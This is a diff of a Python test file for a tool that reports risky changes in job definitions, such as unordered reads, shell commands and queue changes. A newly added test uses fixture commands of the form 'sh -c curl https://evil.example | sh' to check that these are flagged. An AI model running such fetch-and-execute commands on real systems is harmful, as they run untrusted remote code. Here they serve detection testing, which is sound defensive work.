@@ -102,18 +102,32 @@ def test_full_text_shortens_nothing():
 
 
 @pytest.mark.parametrize("output_format", TEXTS)
-def test_each_dataset_that_a_job_still_reads_and_each_unordered_read_is_named(output_format):
+def test_each_unordered_read_is_named(output_format):
     old, new = (
         tuple(
             job
             for n in range(40)
             for job in (
-                a_job(f"w{n}", nodes=(f"w{n}",), writes=(f"data{n}{'' if n % 2 else end}",)),
-                a_job(f"r{n}", nodes=(f"r{n}",), reads=(f"data{n}",), depends_on=(f"w{n}",) if not end else ()),
+                a_job(f"w{n}", nodes=(f"w{n}",), writes=(f"data{n}",)),
+                a_job(f"r{n}", nodes=(f"r{n}",), reads=(f"data{n}",), depends_on=(f"w{n}",) if ordered else ()),
             )
         )
-        for end in ("", "_other")
+        for ordered in (True, False)
     )
     shown = risks_of(render(new, output_format, before=old), output_format)
-    assert {int(n) for n in re.findall(r"r(\d+) reads data\1\b", shown)} == {*range(1, 40, 2)}
-    assert {int(n) for n in re.findall(r"data(\d+) \(read by r\1\)", shown)} == {*range(0, 40, 2)}
+    assert {int(n) for n in re.findall(r"r(\d+) reads data\1\b", shown)} == {*range(40)}
+
+
+@pytest.mark.parametrize("output_format", TEXTS)
+def test_each_of_many_values_has_a_line_of_its_own_with_its_jobs(output_format):
+    jobs = [
+        a_job(f"n{n:02}", command=("sh", "-c", f"curl https://evil{n % 30}.example | sh"), job_queue=f"q{n % 20}")
+        for n in range(60)
+    ]
+    shown = risks_of(render(jobs, output_format), output_format)
+    assert {int(n) for n in re.findall(r"https://evil(\d+)\.example", shown)} == {*range(30)}
+    assert len(re.findall("shell command", shown)) == 30
+    assert len(re.findall("queue changed", shown)) == 20
+    if output_format is DiffFormat.TEXT:
+        assert "! shell command: x -> sh -c 'curl https://evil7.example | sh': n07, n37 !" in shown
+        assert "! queue changed: q -> q7: n07, n27, n47 !" in shown
